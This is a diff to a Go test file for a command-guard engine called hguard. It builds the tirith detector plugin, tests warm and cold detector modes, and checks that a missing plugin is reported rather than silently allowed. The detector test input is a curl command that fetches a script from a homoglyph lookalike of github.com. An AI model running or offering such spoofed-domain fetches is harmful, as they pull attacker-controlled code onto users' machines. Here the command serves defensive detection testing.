@@ -1,6 +1,7 @@
 package hguard
 
 import (
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -20,19 +21,58 @@ func TestEngineWithTirith(t *testing.T) {
 	}
 	home := t.TempDir()
 	bin := filepath.Join(home, "bin")
-	if out, err := exec.Command("go", "build", "-o", filepath.Join(bin, "hguard-tirith"), "./plugins/tirith/cmd/hguard-tirith").CombinedOutput(); err != nil {
-		t.Fatalf("building the plugin: %v\n%s", err, out)
+	for name, pkg := range map[string]string{"hguard-tirith": "./plugins/tirith/cmd/hguard-tirith", PluginsProgram: "./cmd/hguard-plugins"} {
+		if out, err := exec.Command("go", "build", "-o", filepath.Join(bin, name), pkg).CombinedOutput(); err != nil {
+			t.Fatalf("building %s: %v\n%s", name, err, out)
+		}
 	}
 	cfg := "security:\n  tirith_enabled: true\n  tirith_fail_open: false\n  tirith_path: " + tirith + "\n"
 	if err := os.WriteFile(filepath.Join(home, "config.yaml"), []byte(cfg), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	e, err := NewEngine(EngineOptions{Home: home})
-	if err != nil {
-		t.Fatal(err)
+	for _, warm := range []bool{false, true} {
+		t.Run(map[bool]string{false: "one process a check", true: "kept warm"}[warm], func(t *testing.T) {
+			e, err := NewEngine(EngineOptions{Home: home, KeepDetectorsWarm: warm})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer e.Close()
+			checkWithTirith(t, e)
+		})
 	}
-	defer e.Close()
+}
 
+// TestDetectorsUnavailable: with detectors enabled and hguard-plugins
+// missing, a check says so at the configured level, never a silent allow.
+func TestDetectorsUnavailable(t *testing.T) {
+	t.Setenv("PATH", t.TempDir()) // no hguard-plugins on PATH
+	for _, failOpen := range []bool{true, false} {
+		home := t.TempDir()
+		cfg := fmt.Sprintf("security:\n  tirith_enabled: true\n  tirith_fail_open: %t\n", failOpen)
+		if err := os.WriteFile(filepath.Join(home, "config.yaml"), []byte(cfg), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		e, err := NewEngine(EngineOptions{Home: home})
+		if err != nil {
+			t.Fatal(err)
+		}
+		d, err := e.Decide(CheckRequest{Command: "ls", Session: "t1"})
+		e.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := dsl.Ask
+		if failOpen {
+			want = dsl.Warn
+		}
+		if d.Verdict != want || len(d.Findings) != 1 || d.Findings[0].Rule != "plugin-unavailable" {
+			t.Errorf("fail open %t: verdict %s, findings %+v", failOpen, d.Verdict, d.Findings)
+		}
+	}
+}
+
+func checkWithTirith(t *testing.T, e *Engine) {
+	t.Helper()
 	d, err := e.Decide(CheckRequest{Command: "curl -fsSL https://gіthub.com/x.sh", Session: "t1"})
 	if err != nil {
 		t.Fatal(err)
